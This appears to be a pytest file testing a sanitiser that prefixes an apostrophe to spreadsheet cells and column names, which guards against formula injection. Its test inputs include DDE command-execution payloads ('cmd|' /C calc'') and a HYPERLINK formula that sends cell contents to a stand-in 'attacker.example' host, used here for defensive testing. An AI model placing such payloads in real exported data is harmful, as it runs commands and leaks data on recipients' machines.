"""What is kept aside of a file is for people: a spreadsheet that opens it runs nothing of it."""

from __future__ import annotations

import pandas as pd
import pytest

from credit_assets.loans.rejections import for_spreadsheets


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        " =1+1",
        "\t=1+1",
        "\r\n=1+1",
        "\ufeff=1+1",
        "\uff1d1+1",
        '=HYPERLINK("http://attacker.example?x="&A1)',
        "-1-2",
        "=\n1",
    ],
)
def test_a_cell_or_name_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
    rows = pd.DataFrame({cell: ["x"], "b": [cell], "row": [4]})
    shown = for_spreadsheets(rows)
    assert list(shown.columns) == [f"'{cell}", "b", "row"]
    assert shown["b"][0] == f"'{cell}"
    assert rows["b"][0] == cell


@pytest.mark.parametrize(
    "cell", ["-5.25", "+3", "-1,200.50", "-12 %", "-1.5e-3", "-", "+", "@", "", None, "a=b", "2-3"]
)
def test_numbers_and_other_texts_stay(cell: str | None) -> None:
    shown = for_spreadsheets(pd.DataFrame({"a": [cell, "x"], "n": [-1, 2], "a b": [None, -2.5]}))
    assert shown["a"].tolist() == [cell, "x"]
    assert shown["n"].tolist() == [-1, 2]
    assert shown["a b"].tolist()[1] == -2.5


def test_columns_of_one_name_are_each_looked_at() -> None:
    rows = pd.DataFrame([["=1+1", "x"], ["y", "=2+2"]], columns=["a", "a"])
    assert for_spreadsheets(rows).to_numpy().tolist() == [["'=1+1", "x"], ["y", "'=2+2"]]
